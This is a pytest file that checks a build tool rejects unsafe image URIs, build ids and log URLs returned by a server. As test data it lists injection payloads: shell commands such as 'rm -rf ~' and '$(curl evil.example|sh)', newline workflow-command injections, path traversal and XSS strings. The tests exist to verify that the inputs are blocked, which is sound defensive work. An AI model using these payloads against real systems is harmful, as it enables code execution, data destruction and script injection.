"""Issue 20 §5: values from the server are checked before they become outputs. An imageUri
that is not a container image reference (a value that runs in `run: echo "${{ ... }}"`) or a
build id that is not an id fails clearly, naming the build."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipecat_build.config import Target
from pipecat_build.errors import ActionError
from pipecat_build.models import Build, is_image_reference
from pipecat_build.outcome import Outcome, RunStatus

TARGET = Target(name="", context_dir=Path("/ws"), dockerfile="Dockerfile", region=None)

GOOD = [
    "123456789012.dkr.ecr.us-west-2.amazonaws.com/pipecat-cloud/org_emulator:0123456789abcdef",
    "ghcr.io/owner/repo:v1.2.3",
    "localhost:5000/a/b@sha256:" + "a" * 64,
    "python:3.12-slim",
    "registry.example/team/app",
]
BAD = [
    'x"; touch /tmp/pwned; echo "',
    "repo:tag; rm -rf ~",
    "repo:tag\n::set-output name=x::y",
    "$(curl evil.example|sh)",
    "`id`",
    "repo:tag with space",
    "Repo/Upper:tag",
    "a" * 600,
    "repo:" + "t" * 129,
    "-leading-dash/x",
    "repo@sha256:short",
]


@pytest.mark.parametrize("uri", GOOD)
def test_image_references_pass(uri: str) -> None:
    assert is_image_reference(uri)
    assert Build.parse({"id": "b1", "status": "success", "imageUri": uri}).image_uri == uri


@pytest.mark.parametrize("uri", BAD)
def test_a_bad_image_uri_fails_naming_the_build(uri: str) -> None:
    assert not is_image_reference(uri)
    with pytest.raises(ActionError) as caught:
        Build.parse({"id": "3f1c-build", "status": "success", "imageUri": uri})
    message = str(caught.value)
    assert "build 3f1c-build" in message and "imageUri" in message
    assert "\n" not in message


@pytest.mark.parametrize("build_id", ["../x", "a b", "id\n::error::x", "a;b", "", "x" * 200])
def test_a_bad_build_id_fails(build_id: str) -> None:
    if not build_id:  # no id: nothing to pass on (an answer without a build is handled apart)
        assert Build.parse({"status": "pending"}).id == ""
        return
    with pytest.raises(ActionError, match="build id"):
        Build.parse({"id": build_id, "status": "pending"})


@pytest.mark.parametrize(
    "hostile",
    [
        "https://evil.example/$(touch /tmp/pwned)",
        "https://x.example/a\n::error::injected",
        "https://x.example/a'\"; touch x; echo \"",
        "https://x.example/`id`",
        "javascript:alert(1)",
        "https://x.example/</details><img src=x onerror=alert(1)>",
    ],
)
def test_a_logs_url_a_shell_or_the_runner_would_act_on_never_becomes_an_output(
    hostile: str,
) -> None:
    build = Build.parse({"id": "b1", "status": "success", "logsUrl": hostile})
    assert build.logs_url == ""
    outcome = Outcome(TARGET, status=RunStatus.SUCCESS, build=build)
    assert "logs-url" not in outcome.outputs()


def test_an_ordinary_logs_url_is_kept() -> None:
    url = "https://pipecat.daily.co/acme/builds/0b9d2c61?region=us-west&tab=logs"
    assert Build.parse({"id": "b1", "logsUrl": url}).logs_url == url
